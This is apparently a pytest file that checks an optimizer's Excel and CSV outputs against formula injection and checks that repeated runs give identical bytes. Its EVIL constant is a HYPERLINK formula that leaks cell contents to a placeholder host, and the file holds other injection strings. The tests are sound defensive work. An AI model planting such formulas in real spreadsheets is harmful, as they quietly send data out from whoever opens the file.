"""Workbooks and CSVs a leader opens: formula-like names stay text; the same plan, the same bytes."""

from __future__ import annotations

import csv
import hashlib
import zipfile
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from conftest import build_townships
from openpyxl import load_workbook

from optimizer.cli import main
from optimizer.outputs.office import csv_safe, excel_writer

EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'
NAMES = [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_excel_writer_stores_formula_like_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    with excel_writer(path) as xw:
        pd.DataFrame({"名称": NAMES, "n": range(len(NAMES))}).to_excel(xw, index=False)
    ws = load_workbook(path).active
    assert ws is not None
    # XML readers turn a bare CR into LF; the cell is still text
    assert [c.value for c in ws["A"][1:]] == [n.replace("\r", "\n") for n in NAMES]
    assert {c.data_type for c in ws["A"][1:]} == {"s"}
    assert all(c.quotePrefix for c in ws["A"][1:])
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet  # no formula anywhere
        assert {i.date_time for i in z.infolist()} == {(2020, 1, 1, 0, 0, 0)}
        assert b"2020-01-01T00:00:00Z" in z.read("docProps/core.xml")


def test_csv_safe_follows_owasp_and_leaves_numbers() -> None:
    t = pd.DataFrame({"name": [*NAMES, "东升街道"], "x": [-1.5] * 7})
    out = csv_safe(t)
    assert list(out["name"]) == ["'" + n for n in NAMES] + ["东升街道"]
    assert list(out["x"]) == [-1.5] * 7
    assert list(t["name"]) == [*NAMES, "东升街道"]  # the input table is not changed


@pytest.fixture(scope="module")
def evil_runs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    from conftest import write_data_dir

    root = tmp_path_factory.mktemp("evil")
    towns = build_townships()
    towns.loc[0, "name"] = EVIL
    towns.loc[1, "name"] = "-九江镇"
    data = write_data_dir(root / "data", townships=towns)
    scen = root / "s.yaml"
    scen.write_text("name: '=1+2'\n", encoding="utf-8")
    outs = []
    for n in (1, 2):
        out = root / f"out{n}"
        assert (
            main(["plan", "--data", str(data), "--scenario", str(scen), "--out", str(out), "-q"])
            == 0
        )
        outs.append(out)
    return data, outs[0], outs[1]


def test_names_from_data_and_scenario_stay_text_in_the_plan_workbook(
    evil_runs: tuple[Path, Path, Path],
) -> None:
    _, out, _ = evil_runs
    wb = load_workbook(out / "plan.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    evil = [
        c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "-", "+", "@"))
    ]
    assert any(c.value == EVIL for c in evil)
    assert any(c.value == "=1+2" for c in evil)  # the scenario name in 汇总
    assert all(c.data_type == "s" for c in evil)
    with zipfile.ZipFile(out / "plan.xlsx") as z:
        assert not any(
            "<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets")
        )
    with (out / "townships.csv").open(encoding="utf-8-sig") as fh:
        names = [r["name"] for r in csv.DictReader(fh)]
    assert "'" + EVIL in names and "'-九江镇" in names


def test_two_runs_give_the_same_bytes_except_plan_json(evil_runs: tuple[Path, Path, Path]) -> None:
    _, a, b = evil_runs

    def h(p: Path) -> str:
        return hashlib.sha256(p.read_bytes()).hexdigest()

    differ = [p.name for p in sorted(a.iterdir()) if h(p) != h(b / p.name)]
    assert differ in ([], ["plan.json"])


def test_comparison_files_are_safe_and_the_same_bytes(
    make_data_dir: Callable[..., Path], tmp_path: Path
) -> None:
    data = make_data_dir("d")
    a = tmp_path / "a.yaml"
    b = tmp_path / "b.yaml"
    a.write_text("name: '=HYPERLINK(\"x\")'\n", encoding="utf-8")
    b.write_text("name: '@b'\npolice:\n  reduction: 0.4\n", encoding="utf-8")
    runs = []
    for n in (1, 2):
        out = tmp_path / f"c{n}"
        args = ["compare", str(a), str(b), "--data", str(data), "--types", "police_station"]
        assert main([*args, "--workers", "1", "--out", str(out), "-q"]) == 0
        runs.append(out)
    for name in ("comparison.xlsx", "comparison.csv", "township_differences.csv"):
        assert (runs[0] / name).read_bytes() == (runs[1] / name).read_bytes(), name
    text = (runs[0] / "comparison.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'@b" in text and "seconds" not in text.splitlines()[0]
    wb = load_workbook(runs[0] / "comparison.xlsx")
    values = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert any(c.value == '=HYPERLINK("x")' and c.data_type == "s" for c in values)


def test_control_characters_are_dropped_not_fatal(tmp_path: Path) -> None:
    path = tmp_path / "c.xlsx"
    with excel_writer(path) as xw:
        pd.DataFrame({"方案": ["a\x07b", "=c\x00d"]}).to_excel(xw, index=False)
    ws = load_workbook(path).active
    assert ws is not None
    assert [c.value for c in ws["A"][1:]] == ["ab", "=cd"]
    assert ws["A"][2].data_type == "s"
